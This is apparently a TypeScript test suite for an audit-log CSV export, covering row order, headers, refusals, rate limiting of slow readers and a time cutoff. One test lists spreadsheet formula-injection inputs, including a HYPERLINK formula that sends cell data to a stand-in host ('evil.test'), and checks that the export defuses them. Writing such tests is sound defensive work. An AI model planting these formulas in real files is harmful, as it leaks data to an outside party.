import assert from 'node:assert/strict'
import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { it } from 'node:test'
import { parse } from 'csv-parse/sync'
import { sql } from 'kysely'
import { newId } from '#src/core/id.ts'
import { assertError } from '../support/attacks.ts'
import { administrator, type Person } from '../support/people.ts'
import { onBothEngines, type Postern, testOnOneEngineByDay, usePostern } from '../support/postern.ts'
import { until } from '../support/webhook-calls.ts'

const CSV = { accept: 'text/csv' }
/** Rows of one statement. */
const ROWS_AT_ONCE = 250

/** Writes many entries of the audit log directly, with texts that strangers could have caused. */
async function addEntries(postern: Postern, { organizationId }: Person, names: string[]): Promise<void> {
  const { database, clock } = postern.app && { ...postern.app, clock: postern.clock }
  const rows = names.map(
    (name) =>
      sql`(${newId('audit', clock.now())}, ${organizationId}, null, null, 'file.deleted', ${name}, '{}', '', ${name}, '', ${clock.now()})`,
  )
  await database.tx(async (tx) => {
    for (let first = 0; first < rows.length; first += ROWS_AT_ONCE)
      await sql`insert into audit (id, organization_id, account_id, actor_id, action, target_id, details, ip, user_agent, request_id, created_at)
        values ${sql.join(rows.slice(first, first + ROWS_AT_ONCE))}`.execute(tx)
  })
}

onBothEngines('a list as a table', (engine) => {
  const test = testOnOneEngineByDay(engine)
  const server = usePostern(engine)

  it('has all rows, newest first, with the names of the columns before them', async () => {
    const postern = await server()
    const admin = await administrator(postern)
    await addEntries(
      postern,
      admin,
      Array.from({ length: 1_203 }, (_, index) => `row ${index}`),
    )
    const client = postern.client()
    const answer = await client.get('/v1/audit-log?action=file.deleted', { token: admin.token, headers: CSV })
    assert.equal(answer.status, 200, answer.text)
    assert.equal(answer.headers.get('content-type'), 'text/csv; charset=utf-8; header=present')
    assert.equal(answer.headers.get('content-disposition'), 'attachment; filename="audit-log.csv"')
    assert.equal(answer.headers.get('vary'), 'accept')
    assert.equal(answer.headers.get('cache-control'), 'no-store')
    const rows = parse(answer.text, { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[]
    assert.deepEqual(
      rows.map(({ targetId }) => targetId),
      Array.from({ length: 1_203 }, (_, index) => `row ${1_202 - index}`),
    )
    const asJson = await client.get('/v1/audit-log?action=file.deleted&limit=1', { token: admin.token })
    assert.equal(asJson.headers.get('vary'), 'accept')
    assert.equal(asJson.body.data[0].id, rows[0]?.id)
  })

  test('makes no cell a formula, whatever strangers have written', async () => {
    const postern = await server()
    const admin = await administrator(postern)
    const hostile = [
      '=HYPERLINK("https://evil.test/"&A1)',
      '+1',
      '-2+3',
      '@SUM(A1)',
      '\t=1',
      '\r\n=1',
      '＝1',
      'a,"b"\r\nc',
    ]
    await addEntries(postern, admin, hostile)
    const { text } = await postern
      .client()
      .get('/v1/audit-log?action=file.deleted', { token: admin.token, headers: CSV })
    const rows = parse(text, { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[]
    assert.deepEqual(
      rows.map(({ userAgent }) => userAgent).toReversed(),
      hostile.map((name) => (name.startsWith('a') ? name : `'${name.replace(/(?<=\s)=/, "'=")}`)),
    )
  })

  test('is refused as any other answer is', async () => {
    const postern = await server()
    const admin = await administrator(postern)
    const ask = (query: string, token = admin.token) =>
      postern.client().get(`/v1/audit-log${query}`, { token, headers: CSV })
    assertError(await ask('', 'garbage'), 'UNAUTHORIZED')
    assertError(await ask('?since=yesterday'), 'VALIDATION_FAILED', { field: 'since', value: 'yesterday' })
  })

  test('is sent to two readers of an organization at once, who take nothing from others and are not waited for', async () => {
    const postern = await server()
    const [admin, other] = [await administrator(postern), await administrator(postern)]
    await addEntries(
      postern,
      admin,
      Array.from({ length: 700 }, () => 'x'.repeat(10_000)),
    )
    const { hostname, port } = new URL(postern.url)
    const stuck: Socket[] = []
    // Opens a connection that reads the first line of its answer, and nothing after it.
    const open = async () => {
      const socket = connect(Number(port), hostname)
      stuck.push(socket)
      socket.on('error', () => {})
      socket.write(
        `GET /v1/audit-log HTTP/1.1\r\nhost: ${hostname}\r\nauthorization: Bearer ${admin.token}\r\naccept: text/csv\r\n\r\n`,
      )
      await once(socket, 'readable', { signal: AbortSignal.timeout(30_000) })
      assert.match(String(socket.read(15)), /^HTTP\/1.1 200 OK/)
    }
    try {
      await open()
      await open()
      const ask = (token: string) => postern.client().get('/v1/audit-log', { token, headers: CSV })
      assertError(await ask(admin.token), 'RATE_LIMITED', { retryAfterSeconds: 5 })
      assert.equal((await ask(other.token)).status, 200)
      // Answers that are not read are cut off, so that others get their turn.
      await until(
        () => {
          postern.clock.advance(31_000)
          return ask(admin.token)
        },
        ({ status }) => status === 200,
      )
    } finally {
      for (const socket of stuck) socket.destroy()
    }
  })

  test('ends within five minutes, however slowly it is taken: the right to it may have ended', async () => {
    const postern = await server()
    const admin = await administrator(postern)
    await addEntries(
      postern,
      admin,
      Array.from({ length: 15_000 }, () => 'x'.repeat(2_000)),
    )
    const { hostname, port } = new URL(postern.url)
    const socket = connect(Number(port), hostname)
    try {
      socket.on('error', () => {})
      socket.write(
        `GET /v1/audit-log HTTP/1.1\r\nhost: ${hostname}\r\nauthorization: Bearer ${admin.token}\r\naccept: text/csv\r\n\r\n`,
      )
      await once(socket, 'readable', { signal: AbortSignal.timeout(30_000) })
      let bytes = 0
      // More than a page is taken between two polls, so that it is not cut off for taking nothing.
      for (let passed = 0; passed < 12; passed += 1) {
        const least = bytes + 1_500_000
        await until(
          () => {
            bytes += socket.read()?.length ?? 0
            return bytes
          },
          (taken) => taken >= least || socket.closed,
        )
        postern.clock.advance(29_000)
      }
      await until(
        () => {
          bytes += socket.read()?.length ?? 0
          return socket.closed
        },
        (isClosed) => isClosed,
      )
      assert.ok(bytes < 30_000_000, `${bytes} bytes: it was cut off before its end`)
    } finally {
      socket.destroy()
    }
  })
})
